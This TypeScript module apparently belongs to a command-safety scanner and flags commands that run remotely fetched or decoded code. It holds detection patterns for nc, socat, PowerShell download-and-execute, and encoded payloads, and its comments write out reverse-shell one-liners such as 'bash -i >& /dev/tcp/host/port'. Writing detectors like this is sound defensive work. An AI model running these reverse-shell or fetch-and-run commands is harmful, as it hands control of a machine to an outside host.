import type { Command } from './commands.ts';
import type { Fetched } from './fetched.ts';
import { hostAmong, UNPACKED } from './fetched.ts';
import { baseName, hostOfUrl, socketHost } from './files.ts';
import { DECODERS, FETCHERS, INTERPRETERS, JOINERS, SAYS, STARTERS } from './programs.ts';

/**
 * Does a command run what came from elsewhere: a file fetched before, what a pipe or a substitution fetches or decodes?
 * @returns the host, null where none is named
 */
export function fetchedAndRun(command: Command, fetched: Fetched): { host: string | null } | null {
  const { program, words } = command;
  const led = ledFromAfar(command);
  if (led) return led;
  const file = ranFile(command);
  if (file !== null) {
    const known = fetched.has(baseName(file)) ? baseName(file) : isRelative(file) ? UNPACKED : null;
    if (known !== null && fetched.has(known)) return { host: fetched.get(known) ?? null };
  }
  if (!INTERPRETERS.has(program)) return null;
  const given = [...words, ...(command.input ? [command.input] : [])].flatMap((word) => word.holds);
  const piped = file === null && readsProgram(command) ? command.from : [];
  const sources = [...given, ...piped].flatMap(origins);
  const fetch = sources.find((one) => FETCHERS.has(one.program));
  if (fetch) return { host: hostAmong(fetch) };
  if (sources.some((one) => DECODERS.has(one.program) && decodes(one))) return { host: null };
  if (isEncoded(command) || isPowerShellFetch(command)) return { host: hostAmong(command) };
  return fetchesItself(command);
}

/** Has another machine the say, line by line? `bash -i >& /dev/tcp/host/port`, `nc -e /bin/sh host port`, `sh | nc host port`. */
function ledFromAfar(command: Command): { host: string | null } | null {
  const { from, program, reads, words, writes } = command;
  if (JOINERS.has(program)) {
    const hands = words.some(({ value }) => HANDS.test(value));
    return hands || from.some(isOpenShell) ? { host: hostAmong(command) ?? hostAfter(words) } : null;
  }
  const socket = [...writes, ...reads].find((path) => socketHost(path) !== null);
  return socket !== undefined && isOpenShell(command) ? { host: socketHost(socket) } : null;
}

/** Options of nc, and addresses of socat, that give the connection a program. */
const HANDS = /^-(?:[a-zA-Z]{0,6}[ec]|-exec|-sh-exec|-lua-exec)$|^(?:exec|system|shell):/i;

/** A shell that takes its lines as they come. */
export const isOpenShell = (command: Command): boolean =>
  SHELLS.has(command.program) && ranFile(command) === null && readsProgram(command);

const SHELLS: ReadonlySet<string> = new Set('sh bash zsh dash ksh ash fish pwsh powershell cmd'.split(' '));

/** The host of `nc -e /bin/sh host 4444`: the word before the port. */
function hostAfter(words: Command['words']): string | null {
  const port = words.findIndex(({ value }, at) => at > 0 && /^\d{1,5}$/.test(value));
  return port < 0 ? null : words[port - 1]!.value;
}

const isRelative = (file: string): boolean => file.startsWith('./') || (file.includes('/') && !file.startsWith('/'));

/** The file that a command runs: itself, or the first word of an interpreter that is no option. */
export function ranFile(command: Command): string | null {
  const { program, words, written } = command;
  if (!INTERPRETERS.has(program) && !STARTERS.has(program)) return /[/\\]/.test(written) ? written : program;
  const first = words.find((word) => !/^[-/]/.test(word.value) || word.value.includes('/'));
  const inline = words.some((word) => /^-[a-z]*[ce]$|^-m$/.test(word.value));
  return first && !inline && first.holds.length === 0 ? first.value : null;
}

/** Does an interpreter take its program from its input? `python -c "..."` and `bash script.sh` take data from it. */
function readsProgram({ words }: Command): boolean {
  if (words.at(-1)?.value === '-c') return true;
  const options = words.findIndex((word) => word.value === '-s' || word.value === '--' || !word.value.startsWith('-'));
  const own = options < 0 ? words : words.slice(0, options);
  const inline = own.some((word) => /^-[a-z]*[ce]$|^-m$|^--eval$/.test(word.value));
  return !inline && (options < 0 || words[options]!.value.startsWith('-'));
}

/** A command and those whose output it reads, as far as a pipe is long. */
function origins(command: Command): readonly Command[] {
  const out: Command[] = [];
  const waiting: Command[] = [command];
  for (let at = 0; at < waiting.length && at < 24; at++) {
    const one = waiting[at]!;
    out.push(one);
    waiting.push(...one.from, ...(SAYS.has(one.program) ? one.words.flatMap((word) => word.holds) : []));
  }
  return out;
}

const decodes = (command: Command): boolean =>
  !/^(?:base64|base32|xxd|openssl)$/.test(command.program) ||
  command.words.some((word) => /^-(?:d|D|r|-decode|-d\w*)|^enc$/.test(word.value));

const isEncoded = (command: Command): boolean =>
  /^(?:powershell|pwsh)$/.test(command.program) &&
  command.words.some((word) => /^[-/](?:e|en|enc|enco|encod|encode|encodedcommand|ec)$/i.test(word.value));

const FETCH_WORDS = /^(?:irm|iwr|invoke-webrequest|invoke-restmethod|curl|wget)$|\bdownload(?:string|data|file)\b/i;

/** PowerShell is no Bash: of `iex (irm ...)` its words are read. */
const isPowerShellFetch = (command: Command): boolean =>
  /^(?:iex|invoke-expression|powershell|pwsh|cmd|mshta)$/.test(command.program) &&
  (command.words.some((word) => FETCH_WORDS.test(word.value)) ||
    (/^(?:iex|invoke-expression)$/.test(command.program) && /downloadstring|net\.webclient/i.test(textOf(command))) ||
    (/^(?:powershell|pwsh)$/.test(command.program) &&
      /\b(?:iex|invoke-expression)\b/i.test(textOf(command)) &&
      /\b(?:irm|iwr|invoke-\w{3,20}|download\w{4,8})\b/i.test(textOf(command))) ||
    (command.program === 'mshta' && hostAmong(command) !== null));

/** So much of a command's words is looked through. */
const LOOKED = 2000;
const textOf = (command: Command): string =>
  command.words
    .map((word) => word.value)
    .join(' ')
    .slice(0, LOOKED);

/** The program that stands in a command's words, or is its input, where its language has an engine. */
export function programOf(command: Command): { language: 'JavaScript' | 'Python'; text: string } | null {
  const language = /^python[\d.]*$/.test(command.program)
    ? 'Python'
    : /^(?:node|nodejs|bun|deno)$/.test(command.program)
      ? 'JavaScript'
      : null;
  if (!language) return null;
  const option = command.words.findIndex((word) => /^-[a-zA-Z]*[cep]$|^--(?:eval|print)$|^eval$/.test(word.value));
  const said = option >= 0 ? command.words[option + 1] : ranFile(command) === null ? command.input : null;
  return said && said.holds.length === 0 && said.value.trim() !== '' ? { language, text: said.value } : null;
}

/** `python -c "exec(urlopen('https://...').read())"`. */
function fetchesItself(command: Command): { host: string | null } | null {
  const option = command.words.findIndex((word) => /^-[a-z]*[ce]$|^--eval$/.test(word.value));
  const text = command.words[option + 1]?.value.slice(0, LOOKED) ?? '';
  const runs = option >= 0 && /\b(?:exec|eval|system|Function|compile|instance_eval)\s{0,4}\(/.test(text);
  return runs && /https?:\/\//.test(text) ? { host: hostOfUrl(text) } : null;
}
